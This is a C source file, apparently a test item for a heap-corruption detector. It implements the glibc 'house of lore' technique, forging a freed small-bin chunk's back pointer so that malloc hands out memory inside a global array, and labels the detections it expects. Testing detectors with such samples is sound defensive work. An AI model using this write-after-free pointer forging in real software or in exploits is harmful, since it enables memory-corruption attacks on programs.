/* SPDX-License-Identifier: MIT */
/* house_of_lore: a small-bin chunk's bk is pointed at a chain of fake
 * chunks in a global (the first one's fd points back to the victim); when the
 * victim is taken, glibc stashes the fake chunks into the tcache and a
 * later malloc returns memory in the global.
 * EXPECT-FULL: write-after-free,freelist-corruption
 * EXPECT-FAST: freelist-corruption
 * glibc 2.36: attack succeeds. */
#include "corpus.h"

int main(void)
{
	static size_t fake[9][4] __attribute__((aligned(16)));
	void *t[7];
	for (int i = 0; i < 7; i++)
		t[i] = malloc(0x100);
	size_t *victim = malloc(0x100);
	corpus_sink = malloc(0x18);
	for (int i = 0; i < 7; i++)
		free(t[i]);
	free(victim);		       /* unsorted */
	corpus_sink = malloc(0x500);   /* victim -> small bin */
	/* fake[0]: fd = victim chunk, bk = fake[1]; fake[i]: bk = fake[i+1] */
	fake[0][2] = (size_t)(victim - 2);
	for (int i = 0; i < 8; i++)
		fake[i][3] = (size_t)fake[i + 1];
	fake[1][2] = (size_t)fake[0];
	victim[1] = (size_t)fake[0]; /* the forged bk */
	for (int i = 0; i < 7; i++)
		t[i] = malloc(0x100); /* empty the tcache */
	corpus_sink = malloc(0x100); /* the victim; fakes go to the tcache */
	int hit = 0;
	for (int i = 0; i < 3 && !hit; i++) {
		char *q = malloc(0x100);
		hit = q >= (char *)fake && q < (char *)fake + sizeof fake;
	}
	return corpus_result(hit);
}
